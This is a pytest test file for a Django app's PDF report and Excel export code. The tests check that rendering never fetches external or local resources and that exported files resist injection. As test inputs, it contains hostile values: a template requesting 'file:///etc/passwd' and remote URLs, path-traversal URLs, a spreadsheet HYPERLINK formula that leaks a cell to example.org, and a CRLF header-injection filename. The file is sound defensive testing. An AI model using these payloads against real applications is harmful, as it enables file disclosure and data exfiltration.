import datetime
import io
import logging
import socket
import zipfile
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from inzet.core.charts import radar_svg
from inzet.core.documents import (
    PDF_CONTENT_TYPE,
    XLSX_CONTENT_TYPE,
    RefusedURL,
    Sheet,
    file_response,
    render_pdf,
    static_url_fetcher,
    xlsx_bytes,
)

REPORT = """{% extends "documents/base_pdf.html" %}
{% block title %}Zelfscan Súdwest-Fryslân{% endblock %}
{% block content %}
<h1>Zelfscan Súdwest-Fryslân</h1>
<figure>{{ chart|safe }}<figcaption>Scores per thema</figcaption></figure>
<table>
  <thead><tr><th>Thema</th><th class="inzet-number">Score</th></tr></thead>
  <tbody>{% for theme, score in rows %}
    <tr><td>{{ theme }}</td><td class="inzet-number">{{ score }}</td></tr>
  {% endfor %}</tbody>
</table>
<p>{{ remark }}</p>
{% endblock %}"""

# What a careless or malicious template (or a future bug) might ask for; none of it may be fetched.
FETCHING = """{% extends "documents/base_pdf.html" %}
{% block extra_head %}<style>@import url("http://example.org/evil.css");</style>{% endblock %}
{% block content %}
<h1>Rapport</h1>
<img src="http://example.org/x.png" alt="">
<img src="file:///etc/passwd" alt="">
<img src="/admin/" alt="">
<svg viewBox="0 0 10 10"><image href="https://example.org/y.svg" width="10" height="10"/></svg>
<p>{{ remark }}</p>
{% endblock %}"""


@pytest.fixture
def templates(settings):
    settings.TEMPLATES = [
        {
            "BACKEND": "django.template.backends.django.DjangoTemplates",
            "OPTIONS": {
                "loaders": [
                    (
                        "django.template.loaders.locmem.Loader",
                        {"report.html": REPORT, "fetching.html": FETCHING},
                    ),
                    "django.template.loaders.app_directories.Loader",
                ],
            },
        }
    ]


@pytest.fixture
def no_network(monkeypatch):
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise OSError("no network in tests")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return attempts


def report_context(rows=None):
    chart = radar_svg(
        axes=["SamenwerkingsKracht", "Werving", "Begeleiding"],
        series=[("Zelfscan 2025", [80, 45, None])],
        title="Scores per thema",
    )
    return {
        "chart": chart,
        "rows": rows or [("SamenwerkingsKracht", 80), ("Werving", 45), ("Begeleiding", 1234)],
        "remark": "Zie <img src='http://example.org/track.png'> en https://example.org",
    }


def pdf_text(reader):
    return [page.extract_text() for page in reader.pages]


def test_it_renders_a_report_with_its_title_numbers_and_chart_into_a_pdf(templates, no_network):
    reader = PdfReader(io.BytesIO(render_pdf("report.html", report_context())))

    assert len(reader.pages) == 1
    (text,) = pdf_text(reader)
    assert "Zelfscan Súdwest-Fryslân" in text
    assert "80" in text and "45" in text and "1234" in text
    # The chart's text is text in the PDF too.
    assert "SamenwerkingsKracht" in text and "Zelfscan 2025" in text
    assert "<img src='http://example.org/track.png'>" in text  # the user's text, shown, not loaded
    assert not no_network


def test_it_sets_the_pdf_metadata(templates):
    reader = PdfReader(io.BytesIO(render_pdf("report.html", report_context())))

    assert reader.metadata.title == "Zelfscan Súdwest-Fryslân"
    assert reader.metadata.author == "Inzet"
    assert reader.trailer["/Root"]["/Lang"] == "nl"
    assert "/StructTreeRoot" in reader.trailer["/Root"]  # tagged for screen readers


def test_it_lays_out_a4_pages_from_the_static_print_stylesheet_with_page_numbers(templates):
    rows = [(f"Organisatie {number}", number * 7) for number in range(120)]
    reader = PdfReader(io.BytesIO(render_pdf("report.html", report_context(rows))))
    pages = pdf_text(reader)

    assert len(pages) >= 3
    width, height = reader.pages[0].mediabox.width, reader.pages[0].mediabox.height
    assert (round(width), round(height)) == (595, 842)  # A4 in points
    for number, text in enumerate(pages, start=1):
        assert f"pagina {number} van {len(pages)}" in text
        # The footer repeats the h1 through print.css' string-set: proof that the stylesheet was loaded.
        assert "Zelfscan Súdwest-Fryslân" in text
        assert "Thema" in text  # the table header repeats on every page
    assert "Organisatie 119" in pages[-1]


def test_it_refuses_every_url_but_a_static_file(settings):
    fetch = static_url_fetcher("http://testserver/").fetch

    stylesheet = fetch("http://testserver/static/inzet/print.css")
    assert b"@page" in stylesheet.read()
    assert stylesheet.content_type == "text/css"
    for url in [
        "http://example.org/x.png",
        "https://example.org/static/inzet/print.css",
        "file:///etc/passwd",
        "http://testserver/admin/",
        "http://testserver/static/%2e%2e/%2e%2e/inzet/settings.py",
        "http://testserver/static/..%2f..%2finzet/settings.py",
        "http://testserver/static/inzet/missing.css",
        "ftp://example.org/x",
    ]:
        with pytest.raises(RefusedURL):
            fetch(url)
    assert fetch("data:text/plain,hallo").read() == b"hallo"


def test_it_renders_without_fetching_anything_a_template_asks_for(templates, no_network, caplog):
    with caplog.at_level(logging.WARNING, logger="weasyprint"):
        pdf = render_pdf("fetching.html", report_context())

    assert PdfReader(io.BytesIO(pdf)).pages
    assert not no_network
    refused = " ".join(record.getMessage() for record in caplog.records)
    for url in [
        "http://example.org/evil.css",
        "http://example.org/x.png",
        "file:///etc/passwd",
        "/admin/",
        "https://example.org/y.svg",
    ]:
        assert url in refused
    assert "root:" not in " ".join(pdf_text(PdfReader(io.BytesIO(pdf))))


def read_back(content):
    return load_workbook(io.BytesIO(content))


def test_it_writes_a_spreadsheet_whose_values_keep_their_types(settings):
    settings.TIME_ZONE = "Europe/Amsterdam"
    moment = datetime.datetime(2026, 3, 1, 9, 30, tzinfo=datetime.UTC)
    content = xlsx_bytes(
        [
            Sheet(
                title="Scores",
                header=["Organisatie", "Score", "Bedrag", "Datum", "Ingevuld op", "Actief", "Opmerking"],
                rows=[
                    [
                        "Stichting De Brug",
                        72.5,
                        Decimal("1250.50"),
                        datetime.date(2026, 2, 1),
                        moment,
                        True,
                        None,
                    ],
                    ["Buurtvereniging", 0, Decimal("0"), None, None, False, "tab\there"],
                ],
                number_formats={2: "#,##0.00"},
            )
        ]
    )

    sheet = read_back(content)["Scores"]
    first, second = list(sheet.iter_rows(min_row=2, values_only=True))
    assert first[:3] == ("Stichting De Brug", 72.5, 1250.5)
    assert first[3] == datetime.datetime(2026, 2, 1)
    assert first[4] == datetime.datetime(2026, 3, 1, 10, 30)  # Amsterdam time, without a zone for Excel
    assert first[5] is True and first[6] is None
    assert second[1] == 0 and second[3] is None and second[5] is False
    assert sheet["C2"].number_format == "#,##0.00"
    assert sheet["D2"].number_format == "dd-mm-yyyy"
    assert sheet["D2"].is_date and sheet["E2"].is_date


def test_it_gives_the_header_bold_frozen_and_filterable_and_fits_the_columns():
    content = xlsx_bytes(
        [
            Sheet(title="Fit", header=["Naam", "N"], rows=[["Een heel lange naam van een organisatie", 3]]),
            Sheet(title="Given", header=["A", "B"], rows=[[1, 2]], widths=[30, 12]),
        ]
    )

    workbook = read_back(content)
    fitted, given = workbook["Fit"], workbook["Given"]
    assert fitted["A1"].font.bold and fitted["B1"].font.bold
    assert fitted.freeze_panes == "A2"
    assert fitted.auto_filter.ref == "A1:B2"
    assert fitted.column_dimensions["A"].width > fitted.column_dimensions["B"].width >= 8
    assert given.column_dimensions["A"].width == 30 and given.column_dimensions["B"].width == 12


def test_it_never_turns_text_into_a_formula():
    dangerous = [
        '=HYPERLINK("http://example.org/?leak="&A1,"Klik")',
        "+31 6 12345678",
        "-5",
        "@SUM(1+1)",
        "\tx",
    ]
    content = xlsx_bytes(
        [Sheet(title="Organisaties", header=["=Naam"], rows=[[value] for value in dangerous])]
    )

    sheet = read_back(content)["Organisaties"]
    assert sheet["A1"].value == "=Naam" and sheet["A1"].data_type == "s" and sheet["A1"].font.bold
    for row, value in enumerate(dangerous, start=2):
        cell = sheet.cell(row=row, column=1)
        assert cell.value == value
        assert cell.data_type == "s"
        assert cell.quotePrefix
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_it_makes_sheet_titles_that_excel_accepts():
    content = xlsx_bytes(
        [
            Sheet(title="Vrijwilligers per gemeente [2026]: Súdwest-Fryslân/Oldambt?", header=["A"], rows=[]),
            Sheet(title="vrijwilligers per gemeente [2026]: súdwest-fryslân/oldambt?", header=["A"], rows=[]),
            Sheet(title="  ''  ", header=["A"], rows=[]),
            Sheet(title="History", header=["A"], rows=[]),
        ]
    )

    titles = read_back(content).sheetnames
    assert titles == ["Vrijwilligers per gemeente -202", "vrijwilligers per gemeente (2)", "Blad 3", "Blad 4"]
    assert all(len(title) <= 31 and not set(title) & set("[]:*?/\\") for title in titles)


def test_it_drops_characters_a_spreadsheet_cannot_hold():
    content = xlsx_bytes(
        [Sheet(title="Tekst", header=["Tekst"], rows=[["regel\x00 met\x07 stuurtekens"], ["x" * 40000]])]
    )

    sheet = read_back(content)["Tekst"]
    assert sheet["A2"].value == "regel met stuurtekens"
    assert len(sheet["A3"].value) == 32767


def test_it_sends_a_file_with_an_accented_name_safely():
    response = file_response(
        b"%PDF-", filename="Zelfscan Súdwest-Fryslân 2026.pdf", content_type=PDF_CONTENT_TYPE
    )

    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == (
        'attachment; filename="Zelfscan Sudwest-Fryslan 2026.pdf"; '
        "filename*=UTF-8''Zelfscan%20S%C3%BAdwest-Frysl%C3%A2n%202026.pdf"
    )
    assert response["Content-Length"] == "5"
    assert "no-store" in response["Cache-Control"]
    assert response.content == b"%PDF-"


def test_it_keeps_a_file_name_from_breaking_the_header_or_naming_a_path():
    response = file_response(b"", filename='../"rapport"\r\nX-Evil: 1.xlsx', content_type=XLSX_CONTENT_TYPE)

    assert response["Content-Disposition"] == 'attachment; filename="_rapport_X-Evil_ 1.xlsx"; ' + (
        "filename*=UTF-8''_rapport_X-Evil%3A%201.xlsx"
    )
    assert (
        file_response(b"", filename="rapport.pdf", content_type=PDF_CONTENT_TYPE, as_attachment=False)[
            "Content-Disposition"
        ]
        == 'inline; filename="rapport.pdf"'
    )
    assert XLSX_CONTENT_TYPE == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_it_writes_empty_sheets_and_aware_now():
    content = xlsx_bytes(
        [Sheet(title="Leeg", header=[], rows=[]), Sheet("Nu", ["Wanneer"], [[timezone.now()]])]
    )

    workbook = read_back(content)
    assert workbook.sheetnames == ["Leeg", "Nu"]
    assert isinstance(workbook["Nu"]["A2"].value, datetime.datetime)
